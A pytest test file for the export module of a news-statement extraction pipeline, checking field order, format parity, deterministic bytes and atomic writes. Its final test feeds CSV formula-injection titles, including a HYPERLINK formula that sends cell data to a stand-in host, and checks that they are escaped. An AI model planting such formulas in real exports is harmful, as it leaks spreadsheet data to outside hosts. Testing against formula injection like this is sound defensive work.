"""Exports: exactly the contract's fields in its order, nothing lost between formats, the same bytes for the same record."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from onrecord.cli.proving import Format, Kind
from onrecord.errors import QuestionError
from onrecord.export import DOCUMENTS, FORMATS, KINDS, export
from onrecord.identity import sha256
from onrecord.pipeline.deriving import statements
from onrecord.store import Derivation, Store
from onrecord.types import Act, Attribution, Cleaning, Condition, Details, Meaning, Report, Resolution
from standins import document, documents, ingested, rows

FIELDS = {
    "statements": (
        "id report content source cue via mode parent speaker party addressee act condition said occasion doubt point utterance score "
        "negated status plover cameo"
    ),
    "reports": "id path url outlet title published language origin derived_from derivation noise credits",
    "utterances": "id speaker party act said occasion point statements reports origins wordings",
    "actors": "id name kind party variants",
    "positions": "party point utterance said act condition move against reason",
    "conditions": "id holder kind antecedent consequent statements",
    "deadlocks": "events holders conditions reason",
    "instruments": "name kind status proposer statements id names reports history",
    "meetings": "kind place date present status statements id names reports history",
    "events": "id date source source_party target plover cameo mode context act point reports origins",
    "silences": "party addressee point utterance since days",
    "failures": "path stage error hint",
}
PLACE = "id path url outlet title published language"


@pytest.fixture(scope="module")
def record(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("record") / "r.db"
    ingested(
        path, [*documents(7), document("zwölf, „drei“.txt", '"Ja" said Jörg.', title='A "title", with\nall'), document("b.txt", "BREAK")]
    )
    return path


def written(path: Path, kind: str, form: str) -> bytes:
    out = io.BytesIO()
    with Store(path) as store:
        export(store, kind, form, out)
    return out.getvalue()


@pytest.mark.parametrize("kind", FIELDS)
def test_fields_are_the_contracts(record: Path, kind: str) -> None:
    assert KINDS[kind].names == FIELDS[kind].split()
    for row in rows(record, kind):
        assert list(row) == FIELDS[kind].split()


def test_the_command_line_offers_what_there_is() -> None:
    assert [kind.value for kind in Kind] == [*KINDS, *DOCUMENTS]
    assert [form.value for form in Format] == list(FORMATS)


def test_a_statement(record: Path) -> None:
    row = rows(record, "statements")[0]
    assert list(row["report"]) == PLACE.split()
    assert row == {
        "id": row["id"],
        "report": {
            "id": row["report"]["id"],
            "path": "in/000.txt",
            "url": None,
            "outlet": "Outlet 0",
            "title": None,
            "published": "2025-11-01",
            "language": None,
        },
        "content": [[16, 25]],
        "source": [[31, 35]],
        "cue": [[26, 30]],
        "via": [[40, 45]],
        "mode": "direct",
        **dict.fromkeys(("parent", "party", "addressee", "act", "condition", "occasion", "point", "plover", "cameo")),
        "utterance": row["utterance"],
        "said": "unknown",
        "doubt": False,
        "negated": False,
        "status": "actual",
        "speaker": "Anna",
        "score": 0.5,
    }


def test_reports_actors_failures(record: Path) -> None:
    report = rows(record, "reports")[0]
    assert (report["noise"], report["credits"], report["derivation"]) == ([[0, 15]], ["Norda"], None)
    assert report["origin"]
    assert [(actor["name"], actor["variants"]) for actor in rows(record, "actors")] == [
        ("Anna", [{"text": "Anna", "count": 7}]),
        ("Bo", [{"text": "Bo", "count": 7}]),
        ("Jörg", [{"text": "Jörg", "count": 1}]),
    ]
    assert [row["stage"] for row in rows(record, "failures")] == ["attribute"]


def test_a_statement_and_its_utterance_name_each_other(record: Path) -> None:
    of = {statement: one["id"] for one in rows(record, "utterances") for statement in one["statements"]}
    assert of == {row["id"]: row["utterance"] for row in rows(record, "statements")}


def test_rows_are_sorted(record: Path) -> None:
    places = [(row["report"]["path"], row["content"]) for row in rows(record, "statements")]
    assert places == sorted(places)
    assert [row["path"] for row in rows(record, "reports")] == sorted(row["path"] for row in rows(record, "reports"))


def test_text_is_text(record: Path) -> None:
    assert '"in/zwölf, „drei“.txt"'.encode() in written(record, "reports", "jsonl")


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("kind", KINDS)
def test_same_record_same_bytes(record: Path, kind: str, form: str) -> None:
    assert written(record, kind, form) == written(record, kind, form)


@pytest.mark.parametrize("kind", KINDS)
def test_parquet_holds_the_same_rows(record: Path, kind: str) -> None:
    table = pq.read_table(io.BytesIO(written(record, kind, "parquet")))
    assert table.column_names == KINDS[kind].names
    assert table.to_pylist() == rows(record, kind)


@pytest.mark.parametrize("kind", KINDS)
def test_csv_holds_the_same_rows(record: Path, kind: str) -> None:
    text = io.StringIO(written(record, kind, "csv").decode(), newline="")
    found = list(csv.DictReader(text))
    assert found == [{name: cell(value) for name, value in row.items()} for row in rows(record, kind)]


def cell(value: object) -> str:
    if isinstance(value, list | dict):
        return json.dumps(value, ensure_ascii=False)
    if isinstance(value, bool):
        return str(value).lower()
    return "" if value is None else str(value)


def test_fields_that_later_stages_fill(tmp_path: Path) -> None:
    report = Report("r", "r.txt", 'Ann said she will go if Bo goes. "Yes" said Ann.', Details())
    found = statements(report, [Attribution(((9, 20), (24, 31)), ((0, 3),), ((4, 8),))], [Meaning()], [Resolution("Ann")])
    condition = Condition("if", "Ann", ((24, 31),), ((13, 20),))
    full = [replace(found[0], condition=condition, act=Act.PROMISE, said="unknown", doubt=True)]
    path = tmp_path / "r.db"
    with Store(path, create=True) as store, store.transaction():
        store.add_report(report, ())
        store.replace([Derivation(report, Cleaning(), full, "x")])
    (row,) = rows(path, "statements")
    assert row["condition"] == {"kind": "if", "holder": "Ann", "antecedent": [[24, 31]], "consequent": [[13, 20]]}
    assert (row["act"], row["doubt"], row["said"]) == ("promise", True, "unknown")
    assert pq.read_table(io.BytesIO(written(path, "statements", "parquet"))).to_pylist() == [row]


def test_a_file_appears_whole_or_not_at_all(record: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "s.jsonl"
    out.write_text("before")

    def broken(*_: object) -> int:
        raise ZeroDivisionError

    with Store(record) as store:
        monkeypatch.setitem(FORMATS, "jsonl", broken)
        with pytest.raises(ZeroDivisionError):
            export(store, "statements", "jsonl", out)
        monkeypatch.undo()
        assert [path.name for path in tmp_path.iterdir()] == ["s.jsonl"]
        assert out.read_text() == "before"
        export(store, "statements", "jsonl", out)
    assert sha256(out.read_bytes()) == sha256(written(record, "statements", "jsonl"))


def test_what_cannot_be_exported(record: Path, tmp_path: Path) -> None:
    with Store(record) as store:
        for kind, form, out in (
            ("birds", "jsonl", tmp_path / "x"),
            ("reports", "xls", tmp_path / "x"),
            ("reports", "csv", tmp_path / "no" / "x"),
        ):
            with pytest.raises(QuestionError):
                export(store, kind, form, out)


@pytest.mark.parametrize("title", ['=HYPERLINK("http://elsewhere.example/"&A1)', "+1", "-1+2", "@SUM(A1)", "\t=1"])
def test_no_headline_is_a_formula_in_a_spreadsheet(tmp_path: Path, title: str) -> None:
    ingested(tmp_path / "f.db", [document("a.txt", '"We go" said Anna.', title=title, outlet="Mill Post")])
    (row,) = csv.DictReader(io.StringIO(written(tmp_path / "f.db", "reports", "csv").decode(), newline=""))
    assert (row["title"], row["outlet"]) == (f"'{title}", "Mill Post")
    assert json.loads(written(tmp_path / "f.db", "reports", "jsonl"))["title"] == title
